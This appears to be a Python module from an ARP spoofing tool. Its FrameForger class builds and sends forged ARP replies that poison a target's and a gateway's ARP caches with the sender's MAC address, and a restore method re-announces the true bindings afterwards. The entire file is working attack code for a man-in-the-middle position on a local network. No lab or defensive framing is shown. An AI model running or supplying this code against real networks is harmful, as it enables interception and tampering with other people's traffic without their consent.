"""
Forged ARP replies.

Each spoof() call sends two replies:

- A: "gateway_ip is-at <our MAC>", ARP-addressed to the target
- B: "target_ip is-at <our MAC>", ARP-addressed to the gateway

Both are link-addressed to the target unless the forger is bidirectional, in
which case B goes on the wire to the gateway. With the default, only the
target's cache is poisoned per call.
"""

import logging
import time
from typing import Optional

from config import settings
from core.arp_packet import ARPPacketBuilder, LinkFrame
from core.events import FRAME_FORGED, RESTORED, EventDispatcher
from core.exceptions import ForgeryError, TransmitFailure
from core.network_utils import HardwareAddress, parse_network_address

logger = logging.getLogger(__name__)


class FrameForger:
    """Builds and sends forged ARP replies through a capture device."""

    def __init__(self, device, bidirectional: bool = settings.BIDIRECTIONAL,
                 events: Optional[EventDispatcher] = None):
        self.device = device
        self.bidirectional = bidirectional
        self.events = events or EventDispatcher()
        self.frames_sent = 0

    def _send(self, frame: LinkFrame, failures: list):
        try:
            self.device.send(frame)
        except TransmitFailure as e:
            failures.append(e)
            logger.warning("Failed to send forged reply to %s: %s", frame.destination, e)
        except Exception as e:
            failures.append(TransmitFailure(str(e), operation="spoof", address=frame.destination))
            logger.warning("Failed to send forged reply to %s: %s", frame.destination, e)
        else:
            self.frames_sent += 1
            self.events.emit(FRAME_FORGED, frame.payload.sender_ip,
                             frame.payload.sender_mac,
                             detail=f"sent to {frame.destination}")

    def spoof(self, target_ip, target_mac, gateway_ip, gateway_mac):
        """
        Send both forged replies, A before B.

        Raises:
            ForgeryError: If either frame failed; both are always attempted.
        """
        target_ip = parse_network_address(target_ip)
        gateway_ip = parse_network_address(gateway_ip)
        target_mac = HardwareAddress.parse(target_mac)
        gateway_mac = HardwareAddress.parse(gateway_mac)

        builder = ARPPacketBuilder(self.device.mac_address)

        to_target = builder.build_arp_reply(
            claimed_ip=gateway_ip,
            target_ip=target_ip,
            target_mac=target_mac
        )
        to_gateway = builder.build_arp_reply(
            claimed_ip=target_ip,
            target_ip=gateway_ip,
            target_mac=gateway_mac,
            link_dst=gateway_mac if self.bidirectional else target_mac
        )

        failures = []
        self._send(to_target, failures)
        self._send(to_gateway, failures)

        if failures:
            raise ForgeryError(
                "; ".join(str(f) for f in failures),
                failures=failures,
                address=target_ip
            )

    def restore(self, target_ip, target_mac, gateway_ip, gateway_mac,
                count: int = settings.RESTORE_COUNT,
                interval: float = settings.RESTORE_INTERVAL):
        """
        Re-announce the true bindings to both hosts

        Args:
            count: Number of restoration rounds
            interval: Seconds between rounds
        """
        target_ip = parse_network_address(target_ip)
        gateway_ip = parse_network_address(gateway_ip)

        # Tell target the real gateway MAC, and gateway the real target MAC
        restore_target = ARPPacketBuilder(gateway_mac).build_arp_reply(
            claimed_ip=gateway_ip, target_ip=target_ip, target_mac=target_mac
        )
        restore_gateway = ARPPacketBuilder(target_mac).build_arp_reply(
            claimed_ip=target_ip, target_ip=gateway_ip, target_mac=gateway_mac
        )

        logger.info("Restoring ARP tables of %s and %s", target_ip, gateway_ip)
        for i in range(count):
            for frame in (restore_target, restore_gateway):
                try:
                    self.device.send(frame)
                except TransmitFailure as e:
                    logger.warning("Restore error: %s", e)
            if i < count - 1:
                time.sleep(interval)

        self.events.emit(RESTORED, target_ip, HardwareAddress.parse(gateway_mac),
                         detail=f"{target_ip} <-> {gateway_ip}")
